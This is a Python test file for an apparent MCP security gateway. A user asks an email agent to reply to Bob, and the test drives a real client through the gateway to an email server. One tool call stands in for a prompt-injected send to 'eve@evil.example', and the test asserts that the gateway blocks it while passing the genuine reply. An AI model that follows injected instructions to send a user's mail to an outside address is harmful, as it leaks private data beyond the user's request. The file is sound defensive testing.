"""The MCP gateway against a real stdio MCP server, through a real client, in subprocesses."""

from __future__ import annotations

import sys
from pathlib import Path

import anyio

from intently import Intently

UPSTREAM = Path(__file__).parent / "data" / "upstream_mcp.py"


async def _drive(home: Path, sent: Path) -> list[tuple[bool, str]]:
    from mcp import ClientSession
    from mcp.client.stdio import StdioServerParameters, stdio_client

    params = StdioServerParameters(
        command=sys.executable,
        args=[
            "-c",
            "from intently.cli import main; main()",
            "--home",
            str(home),
            "--actor",
            "user:alice",
            "gateway",
            "--request",
            "Reply to Bob about the offsite",
            "--",
            sys.executable,
            str(UPSTREAM),
            str(sent),
        ],
    )
    results: list[tuple[bool, str]] = []
    async with stdio_client(params) as (r, w), ClientSession(r, w) as client:
        await client.initialize()
        names = sorted(t.name for t in (await client.list_tools()).tools)
        assert names == ["search_emails", "send_email"]
        for name, args in [
            ("search_emails", {"query": "offsite"}),
            ("send_email", {"recipients": ["eve@evil.example"], "subject": "fwd", "body": "x"}),
            ("send_email", {"recipients": ["bob@example.com"], "subject": "Re: offsite", "body": "See you Friday"}),
        ]:
            res = await client.call_tool(name, args)
            text = " ".join(getattr(c, "text", "") for c in res.content)
            results.append((bool(res.is_error), text))
    return results


def test_gateway_blocks_the_injected_send_and_forwards_the_rest(ix: Intently, tmp_path: Path) -> None:
    sent = tmp_path / "sent.jsonl"
    home = ix.home.path
    ix.checkpoint()
    results = anyio.run(_drive, home, sent)
    assert results[0][0] is False and "offsite" in results[0][1].lower()
    assert results[1][0] is True and "block (instructed-value)" in results[1][1]
    assert results[2][0] is False
    assert [line for line in sent.read_text().splitlines()] == ['{"to": ["bob@example.com"], "subject": "Re: offsite"}']
    decisions = ix.log.read("proj", op="GATE_DECIDED")
    assert [d.payload["decision"]["level"] for d in decisions] == ["allow", "block", "allow"]
